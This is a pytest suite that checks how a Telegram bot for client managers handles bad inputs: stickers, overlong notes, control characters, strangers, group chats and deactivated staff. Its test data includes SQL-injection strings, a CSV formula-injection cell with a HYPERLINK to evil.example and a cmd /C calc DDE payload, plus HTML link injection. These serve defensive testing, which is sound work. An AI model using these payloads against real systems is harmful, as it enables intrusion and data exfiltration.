"""The bad-input suite (issue 12): the real Application, polling an emulated Bot API over HTTP,
fed what a security review would try — empty and whitespace messages, stickers, photos,
contacts, locations, notes at and over Telegram's 4096 characters, 2,100 emoji, direction
overrides, NUL and control characters, HTML and `tg://` links, SQL-like strings, CSV formula
cells, strangers, group chats and a deactivated staff member pressing an old button.

For every family: the sender gets a short, specific reply in their language (Chinese by
default, English for M002), never an error id; nothing is half-written; and no outgoing text
(messages, their edits, button labels, toasts) and no log line carries an unmasked phone or ID
number (checked after NFKC and separator stripping). One bot runs for the whole module (a
session-scoped loop): each test uses its own Telegram users, so tests do not share steps.
A Hypothesis test drives the fast in-process harness with PII-laden notes.
"""

from __future__ import annotations

import itertools
import logging
import re
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import SecretStr
from sqlalchemy import func, select

from bot.app import build_application
from bot.bootstrap import Runtime, build_runtime
from bot.settings import Settings
from emulator import BotMessage, EmulatedUser, polling
from storage.activity_rows import NoteRow
from storage.rows import ClientRow, StaffRow
from tests.support.botapi import BotApiServer, Conversation
from tests.support.ptb import Harness
from tests.unit.test_masking import _LEAKED, _digits_only, _pii, _typed

ERROR_ID = re.compile(r"错误编号|error id", re.IGNORECASE)
SHORT = 600  # a "short" reply: a sentence or two, never a wall of text
ZHANG_WEI = "C0001"  # M001's client
ALICE = "C0002"  # M002's client (an English-speaking manager)
LI_LEI = "C0003"  # M003's client (M003 is deactivated in one test)


def leaked(text: str) -> bool:
    return bool(_LEAKED.search(_digits_only(text)))


def seed_rows() -> list[Any]:
    opened = date(2020, 1, 1)
    return [
        StaffRow(staff_id="A001", name="赵敏", role="admin"),
        StaffRow(staff_id="S001", name="周强", role="supervisor"),
        StaffRow(staff_id="M001", name="王芳", role="manager", supervisor_id="S001"),
        StaffRow(staff_id="M002", name="李静", role="manager", supervisor_id="S001", language="en"),
        StaffRow(staff_id="M003", name="陈晨", role="manager", supervisor_id="S001"),
        ClientRow(
            client_id=ZHANG_WEI,
            name="张伟",
            manager_id="M001",
            phone="13812345678",
            id_number="11010519491231002X",
            opened_on=opened,
            risk_level="C3",
        ),
        ClientRow(
            client_id=ALICE,
            name="Alice Wang",
            manager_id="M002",
            phone="13987654321",
            opened_on=opened,
            risk_level="C2",
        ),
        ClientRow(
            client_id=LI_LEI,
            name="李雷",
            manager_id="M003",
            phone="13700001111",
            opened_on=opened,
            risk_level="C3",
        ),
    ]


async def seed(runtime: Runtime) -> None:
    rows = seed_rows()
    async with runtime.uow() as work:
        work.session.add_all([row for row in rows if isinstance(row, StaffRow)])
        await work.session.flush()
        work.session.add_all([row for row in rows if not isinstance(row, StaffRow)])
        await work.commit()


@dataclass
class Suite:
    runtime: Runtime
    telegram: Conversation
    server: BotApiServer
    _ids: Iterator[int]

    @property
    def emulator(self) -> Any:
        return self.server.emulator

    def stranger(self, language_code: str = "zh-hans") -> EmulatedUser:
        return self.telegram.user(
            id=next(self._ids), first_name="路人", language_code=language_code
        )

    async def staff(self, staff_id: str, language_code: str = "zh-hans") -> EmulatedUser:
        """A new Telegram user bound to staff_id (a real invite and /start)."""
        invite = await self.runtime.services.staff.create_invite(staff_id)
        user = self.stranger(language_code)
        await self.telegram.user_sends(user, f"/start {invite.code}")
        await self.telegram.next_message(user)
        return user

    async def reply(self, user: EmulatedUser, text: str) -> BotMessage:
        """What the bot answers to `text` — exactly one message, then nothing else."""
        await self.telegram.user_sends(user, text)
        return await self.only_reply(user)

    async def only_reply(self, who: Any) -> BotMessage:
        message = await self.telegram.next_message(who)
        await self.telegram.settle()
        self.telegram.assert_no_more_messages(who)
        return message

    def send_raw(self, user: EmulatedUser, **fields: Any) -> dict[str, Any]:
        """A message of any kind (sticker, photo, contact, location) from `user`."""
        message = self.emulator._new_user_message(user, None)
        message.update(fields)
        self.emulator._store_incoming(message)
        self.emulator.enqueue("message", message)
        return message

    async def notes(self, client_id: str | None = None) -> list[NoteRow]:
        async with self.runtime.uow() as work:
            query = select(NoteRow).order_by(NoteRow.id)
            if client_id is not None:
                query = query.where(NoteRow.client_id == client_id)
            rows = list((await work.session.scalars(query)).all())
            work.session.expunge_all()
            return rows


def suite_settings(data_dir: Path, server: BotApiServer) -> Settings:
    return Settings(  # type: ignore[call-arg]
        _env_file=None,
        data_dir=data_dir,
        embedder="hashing:64",  # model-free: plain questions must not load a real model
        telegram_token=SecretStr(server.emulator.token),
        telegram_base_url=server.base_url,
        telegram_base_file_url=server.base_file_url,
    )


@pytest.fixture(scope="module")
async def suite(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Suite]:
    data_dir = tmp_path_factory.mktemp("bad-inputs")
    async with BotApiServer() as server:
        settings = suite_settings(data_dir, server)
        runtime = await build_runtime(settings)
        try:
            await seed(runtime)
            application = build_application(settings, runtime.services)
            async with polling(application):
                telegram = Conversation(server.emulator, application)
                yield Suite(runtime, telegram, server, itertools.count(50_001))
        finally:
            await runtime.aclose()


def _outgoing(suite: Suite) -> list[str]:
    """Every text the bot showed anyone so far: messages, earlier versions, labels, toasts."""
    shown: list[str] = []
    for message in suite.emulator.sent_messages():
        shown.append(message.plain_text)
        shown += [button.text for button in message.buttons]
        for version in message.edits:
            shown.append(re.sub(r"<[^>]*>", "", version.text or ""))
            for row in (version.reply_markup or {}).get("inline_keyboard", []):
                shown += [button.get("text", "") for button in row]
    for answer in suite.emulator.callback_answers.values():
        if isinstance(answer.get("text"), str):
            shown.append(answer["text"])
    return shown


@pytest.fixture(autouse=True)
def _audit(suite: Suite, caplog: pytest.LogCaptureFixture) -> Iterator[None]:
    """After each test: no error id and no unmasked number anywhere the user or a log sees."""
    before = set(_outgoing(suite))
    caplog.set_level(logging.INFO)
    yield
    new = [text for text in _outgoing(suite) if text not in before]
    assert not [t for t in new if ERROR_ID.search(t)], new
    assert not [t for t in new if leaked(t)], new
    lines = [record.getMessage() for record in caplog.records]
    lines += [record.exc_text or "" for record in caplog.records]
    assert not [line for line in lines if leaked(line)], lines


def assert_short(message: BotMessage, *expected: str) -> None:
    text = message.plain_text
    assert len(text) <= SHORT, text
    for part in expected:
        assert part in text, text


# ------------------------------------------------------------------ messages that are not text


async def test_empty_and_whitespace_only_messages_get_a_pointer(suite: Suite) -> None:
    li = await suite.staff("M001")
    for blank in (" ", "\u3000\u3000", "\u200b", "\n\t\n"):
        reply = await suite.reply(li, blank)
        assert_short(reply)
        assert "/help" in reply.plain_text or "/ask" in reply.plain_text, reply.plain_text
    assert await suite.notes() == []


@pytest.mark.parametrize(
    "kind",
    [
        {
            "sticker": {
                "file_id": "st-1",
                "file_unique_id": "ust-1",
                "type": "regular",
                "width": 512,
                "height": 512,
                "is_animated": False,
                "is_video": False,
                "emoji": "😀",
            }
        },
        {"photo": [{"file_id": "ph-1", "file_unique_id": "uph-1", "width": 90, "height": 90}]},
        {"contact": {"phone_number": "+86 138 1234 5678", "first_name": "张伟"}},
        {"location": {"latitude": 31.23, "longitude": 121.47}},
    ],
    ids=["sticker", "photo", "contact", "location"],
)
async def test_stickers_photos_contacts_and_locations_get_one_clear_reply(
    suite: Suite, kind: dict[str, Any]
) -> None:
    li = await suite.staff("M001")
    suite.send_raw(li, **kind)
    reply = await suite.only_reply(li)
    assert_short(reply, "/help")
    tom = await suite.staff("M002", "en")
    suite.send_raw(tom, **kind)
    assert_short(await suite.only_reply(tom), "Send /help")


async def test_a_sticker_while_a_note_is_awaited_saves_nothing(suite: Suite) -> None:
    li = await suite.staff("M001")
    assert_short(await suite.reply(li, "/note 张伟"), "张伟")
    suite.send_raw(
        li,
        sticker={
            "file_id": "st-2",
            "file_unique_id": "ust-2",
            "type": "regular",
            "width": 1,
            "height": 1,
            "is_animated": False,
            "is_video": False,
        },
    )
    reply = await suite.only_reply(li)
    assert_short(reply)
    assert await suite.notes(ZHANG_WEI) == []


# ------------------------------------------------------------------ notes at Telegram's limits


@pytest.mark.parametrize("length", [4096, 4097, 10_000])
async def test_long_notes_are_saved_whole_and_confirmed_briefly(suite: Suite, length: int) -> None:
    li = await suite.staff("M001")
    prefix = f"/note {ZHANG_WEI} "
    body = ("客户说明了资产配置想法，下周再约。" * 800)[: length - len(prefix)]
    before = len(await suite.notes(ZHANG_WEI))
    saved = await suite.reply(li, prefix + body)
    assert "已保存 #" in saved.plain_text, saved.plain_text
    assert len(saved.plain_text) <= 1_500
    notes = await suite.notes(ZHANG_WEI)
    assert len(notes) == before + 1 and notes[-1].text == body  # all of it, or nothing


async def test_a_note_repeating_a_number_gets_one_short_confirmation(suite: Suite) -> None:
    li = await suite.staff("M001")
    body = "客户电话１３８００１３８０００，" * 150
    saved = await suite.reply(li, f"/note 张伟 {body}")  # exactly one message back
    assert "已保存 #" in saved.plain_text and len(saved.plain_text) <= 1_500
    assert (await suite.notes(ZHANG_WEI))[-1].text == body


async def test_two_thousand_one_hundred_emoji(suite: Suite) -> None:
    li = await suite.staff("M001")
    body = "😀" * 2_100  # 4,200 UTF-16 units: over Telegram's 4096 if echoed whole
    before = len(await suite.notes(ZHANG_WEI))
    saved = await suite.reply(li, f"/note 张伟 {body}")
    assert "已保存 #" in saved.plain_text, saved.plain_text
    notes = await suite.notes(ZHANG_WEI)
    assert len(notes) == before + 1 and notes[-1].text == body


# ------------------------------------------------------------------ characters that hide things


async def test_a_direction_override_neither_hides_a_number_nor_reverses_the_note(
    suite: Suite,
) -> None:
    li = await suite.staff("M001")
    saved = await suite.reply(li, "/note 张伟 电话\u202e13812345678\u202c 已核实")
    assert "138****5678" in saved.plain_text and "\u202e" not in saved.plain_text
    assert "13812345678" in (await suite.notes(ZHANG_WEI))[-1].text  # the record keeps it


async def test_nul_and_control_characters_are_dropped_not_stored(suite: Suite) -> None:
    li = await suite.staff("M001")
    saved = await suite.reply(li, "/note 张伟 已\x00回\x07访\x1b[31m 客户\x7f满意")
    assert "已保存 #" in saved.plain_text, saved.plain_text
    stored = (await suite.notes(ZHANG_WEI))[-1].text
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", stored), repr(stored)
    assert "回" in stored and "满意" in stored


async def test_only_control_characters_is_an_empty_note(suite: Suite) -> None:
    li = await suite.staff("M001")
    before = len(await suite.notes(ZHANG_WEI))
    # Nothing left after dropping control characters: the note is still to be written.
    assert_short(await suite.reply(li, "/note 张伟 \x00\x01\x02"), "请发送对 张伟")
    assert_short(await suite.reply(li, "\x00\x1b\x7f"), "记录内容为空")
    assert len(await suite.notes(ZHANG_WEI)) == before


# ------------------------------------------------------------------ markup, links, SQL, formulas


async def test_html_and_tg_links_are_shown_as_typed_never_as_markup(suite: Suite) -> None:
    li = await suite.staff("M001")
    raw = '</i><b>粗 &amp; <a href="tg://user?id=13812345678">点我</a> tg://user?id=42'
    saved = await suite.reply(li, f"/note 张伟 {raw}")
    assert "已保存 #" in saved.plain_text, saved.plain_text
    assert "tg://user?id=" in saved.plain_text and "&amp;" in saved.plain_text
    assert "13812345678" not in (saved.text or "")  # masked even inside the echoed attribute
    assert (await suite.notes(ZHANG_WEI))[-1].text == raw


@pytest.mark.parametrize(
    "raw", ["'; DROP TABLE clients;--", '" OR 1=1 --', "张伟'); DELETE FROM notes; --"]
)
async def test_sql_like_notes_are_plain_text(suite: Suite, raw: str) -> None:
    li = await suite.staff("M001")
    saved = await suite.reply(li, f"/note {ZHANG_WEI} {raw}")
    assert "已保存 #" in saved.plain_text and raw in saved.plain_text
    assert (await suite.notes(ZHANG_WEI))[-1].text == raw
    async with suite.runtime.uow() as work:
        assert await work.session.scalar(select(func.count()).select_from(ClientRow)) == 3


async def test_a_sql_like_client_name_finds_no_one(suite: Suite) -> None:
    li = await suite.staff("M001")
    reply = await suite.reply(li, "/client '; DROP TABLE clients;--")
    assert_short(reply)
    assert "张伟" not in reply.plain_text
    async with suite.runtime.uow() as work:
        assert await work.session.scalar(select(func.count()).select_from(ClientRow)) == 3


async def test_a_csv_formula_in_a_note_is_kept_as_text(suite: Suite) -> None:
    li = await suite.staff("M001")
    raw = '=HYPERLINK("http://evil.example/?q="&A1,"点这里") +cmd|\' /C calc\'!A0 @SUM(1+1)'
    saved = await suite.reply(li, f"/note 张伟 {raw}")
    assert "已保存 #" in saved.plain_text and raw in saved.plain_text
    assert (await suite.notes(ZHANG_WEI))[-1].text == raw


# ------------------------------------------------------------------ who may talk to the bot


async def test_strangers_get_one_refusal_in_their_language_and_nothing_is_stored(
    suite: Suite,
) -> None:
    before = len(await suite.notes())
    zh = suite.stranger()
    assert_short(
        await suite.reply(zh, "/note 张伟 电话 １３８１２３４５６７８"), "仅限已授权的员工"
    )
    en = suite.stranger("en")
    reply = await suite.reply(en, "/client 张伟")
    assert_short(reply)
    assert "张伟" not in reply.plain_text and not re.search(r"[\u4e00-\u9fff]{4}", reply.plain_text)
    suite.send_raw(en, contact={"phone_number": "13812345678", "first_name": "x"})
    assert_short(await suite.only_reply(en))
    assert len(await suite.notes()) == before


async def test_group_chats_are_refused_without_showing_client_data(suite: Suite) -> None:
    li = await suite.staff("M001")
    group = suite.telegram.group(-7001, "营业部群")
    before = len(await suite.notes())
    for text in ("/note 张伟 群里记录", "/client 张伟", "张伟电话多少"):
        await suite.telegram.user_sends(li, text, chat=group)
        refusal = await suite.only_reply(group)
        assert_short(refusal, "只在私聊中使用")
        assert "张伟" not in refusal.plain_text
    assert len(await suite.notes()) == before


async def test_a_deactivated_manager_pressing_an_old_button_is_refused(suite: Suite) -> None:
    chen = await suite.staff("M003")
    saved = await suite.reply(chen, "/note 李雷 下周回访")
    assert "已保存 #" in saved.plain_text and saved.buttons, saved.describe()
    await suite.runtime.services.staff.deactivate("M003", by="A001", reason="离职")

    query = await suite.telegram.press(chen, saved, 0)
    await suite.telegram.settle()
    answer = suite.telegram.callback_answer(query)
    refused = [m.plain_text for m in suite.emulator.sent_messages(chen)][-1:]
    shown = [(answer or {}).get("text") or "", *refused]
    assert any("仅限已授权的员工" in text or "停用" in text for text in shown), shown
    [note] = await suite.notes(LI_LEI)
    assert note.deleted_at is None  # the old button did nothing


# ------------------------------------------------------------------ English speakers


async def test_english_speakers_get_english_for_bad_notes(suite: Suite) -> None:
    tom = await suite.staff("M002", "en")
    assert_short(await suite.reply(tom, f"/note {ALICE}"), "Alice Wang")
    assert_short(await suite.reply(tom, "\x00 \u200b "), "empty")
    saved = await suite.reply(
        tom, f"/note {ALICE} '; DROP TABLE clients;-- ＋８６ １３９８７６５４３２１"
    )
    assert "Saved #" in saved.plain_text and "139****4321" in saved.plain_text
    # The frame is English; a lexicon suggestion is compliance's wording, in its language.
    frame = saved.plain_text.split("•")[0]
    assert not re.search(r"[\u4e00-\u9fff]", frame), saved.plain_text
    # Not a command to Telegram (full-width digits): a question, answered in English.
    assert_short(await suite.reply(tom, "/１３９８７６５４３２１"), "compliance")


async def test_a_number_typed_as_a_command_is_not_echoed(suite: Suite) -> None:
    li = await suite.staff("M001")
    # An unknown command is echoed (masked) with a pointer to /help; what Telegram does not
    # mark as a command is a question. Either way the reply holds no unmasked number (_audit).
    assert_short(await suite.reply(li, "/13812345678"), "138****5678", "/help")
    assert_short(await suite.reply(li, "/138.1234.5678@ambot_bot"), "/help")
    assert_short(await suite.reply(li, "/１３８ １２３４ ５６７８"), "合规")


async def test_a_stranger_pressing_a_forged_button_learns_nothing(suite: Suite) -> None:
    li = await suite.staff("M001")
    card = await suite.reply(li, "/client 张伟")
    stranger = suite.stranger()
    suite.emulator.add_user(stranger)
    query = suite.emulator.user_presses(stranger, li.id, card.message_id, "x", strict=False)
    await suite.telegram.settle()
    answer = suite.telegram.callback_answer(query) or {}
    shown = [answer.get("text") or ""] + [
        m.plain_text for m in suite.emulator.sent_messages(stranger)
    ]
    assert not [text for text in shown if "张伟" in text], shown


# ------------------------------------------------------------------ Hypothesis, fast harness

_AROUND = st.text(
    alphabet=st.sampled_from(list("客户电话身份证明天回访，。 🙂<>&'\"=")), max_size=8
)


@st.composite
def _pii_note(draw: st.DrawFn) -> str:
    parts = [draw(_AROUND)]
    for _ in range(draw(st.integers(1, 2))):
        parts += [draw(_typed(draw(_pii()))), draw(st.sampled_from(["：", "，", "\n", "客"]))]
        parts.append(draw(_AROUND))
    return "".join(parts)


def _examples(strategy: st.SearchStrategy[str], count: int) -> list[str]:
    """`count` deterministic examples of a strategy (the async harness runs them)."""
    found: list[str] = []

    @settings(
        max_examples=count,
        derandomize=True,
        database=None,
        deadline=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(strategy)
    def collect(example: str) -> None:
        found.append(example)

    collect()
    return found[:count]


async def test_notes_with_numbers_in_any_width_leak_nowhere(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    harness = await Harness.open(tmp_path / "data")
    try:
        await seed(harness.runtime)
        li = await harness.staff("M001", 1001)
        for text in _examples(_pii_note(), 12):
            outcome = await li.send_all(f"/note 张伟 {text}")
            assert outcome.messages, text
            for call in outcome.calls:
                for key in ("text", "caption"):
                    value = call.params.get(key)
                    if isinstance(value, str):
                        shown = re.sub(r"<[^>]*>", "", value)
                        assert not leaked(shown) and not ERROR_ID.search(shown), (text, value)
        lines = [r.getMessage() for r in caplog.records if r.levelno >= logging.INFO]
        assert not [line for line in lines if leaked(line)], lines
    finally:
        await harness.close()
